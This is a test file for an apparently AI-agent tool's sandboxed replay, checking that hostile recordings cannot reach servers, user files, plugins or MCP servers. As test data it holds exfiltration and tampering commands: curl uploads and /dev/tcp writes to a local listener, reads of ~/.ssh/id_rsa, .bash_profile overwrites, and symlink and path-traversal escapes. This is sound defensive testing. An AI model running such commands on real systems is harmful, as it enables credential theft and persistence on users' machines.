/**
 * `ally replay` of a recording that somebody made to do harm: it allows itself everything, its files and its header lie.
 * With `--update` each of its calls is made, whatever the requests say, and the new recording holds the results.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import {
  describeHome,
  hostileRecording,
  makeHome,
  replayAll,
} from "../support/hostile_recording.ts";
import { makePlace, runAlly, stage } from "../support/program.ts";
import { hasBubblewrap, programsOnly } from "../support/sandbox.ts";

const ignore = !hasBubblewrap();

const bash = (command: string) => ({ name: "bash", arguments: { command } });

Deno.test({
  name: "a hostile recording's commands reach no server, whatever the recording or a flag allows",
  ignore,
  async fn() {
    await using place = await makeHome();
    let connections = 0;
    const server = Deno.listen({ hostname: "127.0.0.1", port: 0 });
    const { port } = server.addr;
    const counting = (async () => {
      for await (const connection of server) {
        connections++;
        connection.close();
      }
    })();
    const url = `http://127.0.0.1:${port}/`;
    const calls = [
      `curl -s -m 2 -T a.txt ${url}`,
      `exec 3<>/dev/tcp/127.0.0.1/${port}; echo evil >&3`,
      `git clone -q ${url}x.git`,
      `docker -H tcp://127.0.0.1:${port} ps`,
    ].map(bash);
    const { updated } = await replayAll(
      place,
      { files: { "a.txt": { text: "a\n" } }, calls, typed: [`curl -s -m 5 ${url}`] },
      ["--allow-net"],
    );
    server.close();
    await counting;
    assert.ok(updated.includes(`"id":${calls.length + 1}`), "all calls were made");
    assert.equal(connections, 0);
  },
});

Deno.test({
  name: "no tool of a hostile recording reads or writes the user's files, whatever it was answered",
  ignore,
  async fn() {
    await using place = await makeHome();
    const home = place.env.HOME!;
    const before = await describeHome(place);
    const write = (file_path: string) => ({
      name: "write",
      arguments: { file_path, content: "evil\n" },
    });
    const lines = { cwd: "/home/them/project", home, ally: place.home, project: "/" };
    const { updated, code } = await replayAll(place, {
      header: { directories: lines },
      run: {
        options: {
          maxTurns: 100,
          addDirs: [home],
          rules: {
            allow: { write: [home, "/home/them/project/../../..", "/"], read: ["/"], run: true },
            deny: {},
            allowAll: true,
          },
        },
      },
      files: { "a.txt": { text: "a\n" }, "d/e/f": { text: "" }, "l": { link: "d/e" } },
      calls: [
        write(`${home}/.bash_profile`),
        write("../../../.bash_profile"),
        write("l/../../../../.bash_profile"),
        { name: "read", arguments: { file_paths: [`${home}/.ssh/id_rsa`] } },
        { name: "grep", arguments: { pattern: "mine", path: home } },
        {
          name: "edit",
          arguments: { file_path: `${home}/.bashrc`, old_string: "# mine", new_string: "evil" },
        },
      ],
    });
    assert.notEqual(code, 2);
    assert.ok(updated.includes('"id":7'), "all calls were made");
    assert.ok(!updated.includes("mine-mine"));
    assert.deepEqual(await describeHome(place), before);
  },
});

Deno.test({
  name: "a recording's options are those that a replay takes: none names a file, a plugin or a run",
  ignore,
  async fn() {
    await using place = await makeHome();
    const home = place.env.HOME!;
    const before = await describeHome(place);
    const evil = join(home, ".bash_profile");
    const rules = { allow: { run: true }, deny: {}, allowAll: true };
    const options = {
      ...{ maxTurns: 100, plan: false, addDirs: [home], rules },
      ...{ record: evil, receipt: evil, debug: true, verbose: true, session: true, print: false },
      ...{ images: [join(home, ".ssh/id_rsa")], outputSchema: join(home, ".bashrc") },
      ...{ pluginDirs: [home], allowedPlugins: ["evil"], settings: { sandbox: "off" }, cwd: home },
      ...{ replay: "/dev/zero", color: true, trustProject: true, outputFormat: "json" },
    };
    await place.write("h.jsonl", hostileRecording({ files: {}, run: { options } }));
    const replay = (...args: string[]) => runAlly(place, { args: ["replay", ...args, "h.jsonl"] });
    const plain = await replay();
    assert.equal(plain.code, 1, plain.stderr);
    assert.deepEqual(await describeHome(place), before);
    const updated = await replay("--update");
    assert.match(updated.stdout, /now holds the requests as they are/, updated.stderr);
    assert.deepEqual(await describeHome(place), before);
    assert.ok(!(await place.read("h.jsonl")).includes("mine-mine"));
    for (
      const name of ["resume", "fork", "notResumed"]
    ) {
      const run = { options: { maxTurns: 100, rules, plan: false, [name]: "last" } };
      await place.write("h.jsonl", hostileRecording({ files: {}, run }));
      assert.equal((await replay()).code, 1);
      assert.deepEqual(await describeHome(place), before);
    }
  },
});

Deno.test({
  name: "a recording whose options are not of their kind is refused before anything runs",
  ignore,
  async fn() {
    await using place = await makeHome();
    const before = await describeHome(place);
    const rules = { allow: {}, deny: {}, allowAll: false };
    for (
      const options of [
        undefined,
        { maxTurns: 1 },
        { rules, maxTurns: "1" },
        { rules, fallbackModel: { name: "x" } },
        { rules, appendSystemPrompt: ["x"] },
        { rules, plan: "no" },
        { rules: { ...rules, allowAll: "yes" } },
        { rules: { ...rules, allow: { read: "/" } } },
        { rules: { ...rules, deny: { run: [1] } } },
      ]
    ) {
      const { code, stderr } = await replayAll(place, { files: {}, run: { options } });
      assert.equal(code, 2, stderr);
      assert.match(stderr, /line 1 does not say how the run was started/);
      assert.deepEqual(await describeHome(place), before);
    }
  },
});

Deno.test({
  name: "a hostile recording's commands, called or typed, find no file of the user's",
  ignore,
  async fn() {
    await using place = await makeHome();
    const home = place.env.HOME!;
    const word = "word-of-mine";
    await Deno.writeTextFile(join(home, "notes.txt"), `${word}\n`);
    await Deno.mkdir(join(home, "other/.git/refs"), { recursive: true });
    await Deno.mkdir(join(home, "other/.git/objects"));
    await Deno.writeTextFile(join(home, "other/.git/HEAD"), `ref: refs/heads/${word}\n`);
    await Deno.writeTextFile(join(place.dir, "beside.txt"), `${word}\n`);
    const before = await describeHome(place);
    const commands = [
      `cat ${home}/notes.txt ~/notes.txt`,
      `cp ${home}/notes.txt copy; cat copy`,
      `grep -r ${word.slice(0, 7)} ${home} ${place.dir}`,
      `rm -rf .git; ln -s ${home}/other/.git .git; git init; cat .git/HEAD`,
      `cat .git/HEAD; git symbolic-ref HEAD; git --git-dir=${home}/other/.git symbolic-ref HEAD`,
      `ln -s ${home} l; cat l/notes.txt; ls l/ && echo evil >l/.bash_profile`,
      `echo written >made; cat made; echo shared >/tmp/shared`,
      "cat /tmp/shared a.txt; git --version",
    ];
    const files = { "a.txt": { text: "of the copy\n" } };
    const recording = { files, calls: commands.map(bash), typed: commands };
    for (const git of [undefined, { prefix: "" }]) {
      const { updated, results, stderr } = await replayAll(place, { ...recording, git });
      assert.ok(updated.includes(`"id":${commands.length + 1}`), stderr);
      assert.ok(!updated.includes(word), updated);
      assert.match(results, /shared\\nof the copy\\ngit version/);
      assert.match(updated, /written/);
      assert.deepEqual(await describeHome(place), before);
    }
    const named = [`--allow-read=${join(home, "notes.txt")}`];
    const reading = { files, calls: [bash(`cat ${home}/notes.txt`)] };
    assert.match((await replayAll(place, reading, named)).results, new RegExp(word));
  },
});

Deno.test({
  name: "a hostile recording whose files lead out is refused before anything runs",
  ignore,
  async fn() {
    await using place = await makeHome();
    const before = await describeHome(place);
    const text = { text: "evil\n" };
    for (
      const files of [
        {
          "d/e/f": text,
          "s": { link: "d/e" },
          "t": { link: "s/../../.." },
          "t/.bash_profile": text,
        },
        { "../../.bash_profile": text },
        { [`${place.env.HOME}/.bash_profile`]: text },
        { ".git/hooks/post-checkout": text },
        { "f": { fifo: true } },
      ]
    ) {
      const { code, stderr } = await replayAll(place, { files, calls: [bash("echo ran")] });
      assert.equal(code, 2, stderr);
      assert.match(stderr, /Cannot lay out '/);
      assert.deepEqual(await describeHome(place), before);
    }
  },
});

Deno.test({
  name:
    "a recording that names a place in a repository through a link reaches nothing behind the link",
  ignore,
  async fn() {
    await using place = await makeHome();
    const home = place.env.HOME!;
    await Deno.symlink(home, join(place.dir, "out"));
    const git = async (...args: string[]) => {
      const identity = ["-c", "user.name=a", "-c", "user.email=a@b"];
      const { success, stdout } = await new Deno.Command("git", {
        args: [...identity, ...args],
        cwd: place.dir,
      }).output();
      assert.ok(success, args.join(" "));
      return new TextDecoder().decode(stdout).trim();
    };
    await git("init", "-q");
    await git("add", "out");
    await git("commit", "-q", "-m", "one");
    const commit = await git("rev-parse", "HEAD");
    const before = await describeHome(place);
    const files = {
      ".bash_profile": { text: "evil\n" },
      ".bashrc": { text: "evil\n", masked: true },
    };
    const { code, stderr } = await replayAll(place, { files, git: { commit, prefix: "out/" } });
    assert.equal(code, 2, stderr);
    assert.deepEqual(await describeHome(place), before);
    const names = "find .git -type f -links +1 | wc -l";
    const shared = await replayAll(place, { git: { commit, prefix: "" }, calls: [bash(names)] });
    assert.match(shared.results, /"content":"0\\n"/, shared.stderr);
  },
});

Deno.test("what is too large for a recording, or no file, is not read", async () => {
  await using place = await makePlace();
  const large = join(place.dir, "large.jsonl");
  await Deno.writeTextFile(large, "{");
  await Deno.truncate(large, 2 ** 33);
  const replay = (file: string) => runAlly(place, { args: ["replay", file] });
  assert.match((await replay(large)).stderr, /Cannot replay .*it has 8(\.\d)? GB, more than/);
  assert.match((await replay("/dev/zero")).stderr, /Cannot replay .*it is not a regular file/);
});

Deno.test("without a sandbox nothing of a recording runs, unless --no-sandbox is typed, which is said", async () => {
  await using place = await makeHome();
  const programs = await programsOnly(place, ["bash", "sh", "touch"]);
  const mark = join(place.env.HOME!, "ran");
  await place.write("h.jsonl", hostileRecording({ files: {}, calls: [bash(`touch ${mark}`)] }));
  await Deno.mkdir(place.home, { recursive: true });
  await Deno.writeTextFile(join(place.home, "config.json"), '{"sandbox":"off"}');
  const replay = (...args: string[]) =>
    runAlly(place, { args: ["replay", "--update", "h.jsonl", ...args], env: { PATH: programs } });
  const refused = await replay();
  assert.equal(refused.code, 2, refused.stdout);
  assert.match(refused.stderr, /Cannot run recorded commands in a sandbox: .*--no-sandbox/);
  await assert.rejects(Deno.stat(mark), Deno.errors.NotFound);
  const typed = await replay("--no-sandbox");
  assert.match(typed.stderr, /--no-sandbox: the recorded commands run without a sandbox/);
  assert.ok((await Deno.stat(mark)).isFile);
});

Deno.test({
  name: "a recording starts none of the user's MCP servers",
  ignore,
  async fn() {
    await using t = await stage([]);
    const { place } = t;
    const started = join(place.env.HOME!, "started");
    await Deno.mkdir(place.home, { recursive: true });
    const server = { command: "sh", args: ["-c", `touch ${started}; cat`] };
    await Deno.writeTextFile(
      join(place.home, "mcp.json"),
      JSON.stringify({ mcpServers: { mine: server } }),
    );
    const call = { name: "mine__do", arguments: {} };
    const off = await replayAll(place, { files: {}, calls: [call] });
    assert.ok(off.updated.includes('"id":2'), "the call was made");
    await assert.rejects(Deno.stat(started), Deno.errors.NotFound);
  },
});
